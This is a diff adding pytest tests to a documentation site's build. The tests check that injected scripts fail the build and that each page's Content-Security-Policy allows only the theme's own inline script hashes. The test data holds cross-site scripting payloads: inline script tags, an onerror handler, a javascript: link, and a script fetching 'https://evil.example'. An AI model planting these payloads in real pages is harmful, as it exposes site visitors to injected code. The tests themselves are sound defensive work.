@@ -182,3 +182,62 @@ def test_the_nginx_snippet_carries_the_same_headers(built_site):
     values = security.read_netlify_headers((built_site / "_headers").read_text(encoding="utf-8"))
     for name, value in values.items():
         assert f'add_header {name} "{value}" always;' in out
+
+
+# Only the theme's own inline scripts may run -----------------------------------------------------
+
+SMUGGLED = {
+    "a script in a Markdown page": ("docs/fr/guide/protecting.md", "<script>alert('smuggled')</script>", "an inline script"),
+    "an event handler in a Markdown page": ("docs/nl/guide/protecting.md", '<img src="x.png" onerror="alert(1)">',
+                                            "an inline event handler"),
+    "a javascript: link in a Markdown page": ("docs/fr/about/index.md", "[klik](javascript:alert(1))", "javascript: address"),
+    "a script in the contributor guide": ("CONTRIBUTING.md", "<script>fetch('https://evil.example')</script>", "an inline script"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(SMUGGLED))
+def test_a_script_smuggled_into_the_content_fails_the_build_and_leaves_the_site_untouched(tmp_path, case):
+    from helpers import copy_project, run_build, tree_digest
+
+    path, smuggled, words = SMUGGLED[case]
+    project = copy_project(tmp_path / "project")
+    assert run_build(project).returncode == 0
+    before = tree_digest(project / "site")
+    target = project / path
+    target.write_text(target.read_text(encoding="utf-8") + "\n\n" + smuggled + "\n", encoding="utf-8")
+    result = run_build(project)
+    assert result.returncode != 0
+    assert "does not allow" in result.stderr and words in result.stderr, result.stderr[-1500:]
+    assert tree_digest(project / "site") == before
+
+
+def test_a_script_smuggled_into_an_interface_word_fails_the_check(tmp_path):
+    from helpers import copy_project, run_build
+
+    project = copy_project(tmp_path / "project")
+    labels = project / "directory/labels/nl.yml"
+    labels.write_text(labels.read_text(encoding="utf-8").replace(
+        "  skip_to_content: ", "  skip_to_content: <script>alert(1)</script> ", 1), encoding="utf-8")
+    result = run_build(project)
+    assert result.returncode != 0
+    assert "directory/labels/nl.yml" in result.stderr and "ui.skip_to_content" in result.stderr
+
+
+def test_every_page_allows_only_the_theme_scripts_it_holds(built_site):
+    """The policy of each page lists exactly the hashes of its own inline scripts, all of them the
+    theme's: nothing more is allowed than what the page runs."""
+    import base64
+    import hashlib
+
+    checked = 0
+    for path in built_site.rglob("*.html"):
+        html = path.read_text(encoding="utf-8")
+        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1)
+        allowed = set(re.findall(r"'(sha256-[^']+)'", policy))
+        inline = [m.group(2) for m in re.finditer(r"<script(\s[^>]*)?>(.*?)</script>", html, re.S)
+                  if not re.search(r"\ssrc=|application/json", m.group(1) or "")]
+        held = {"sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() for body in inline}
+        assert allowed == held, path
+        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
+        checked += 1
+    assert checked > 100
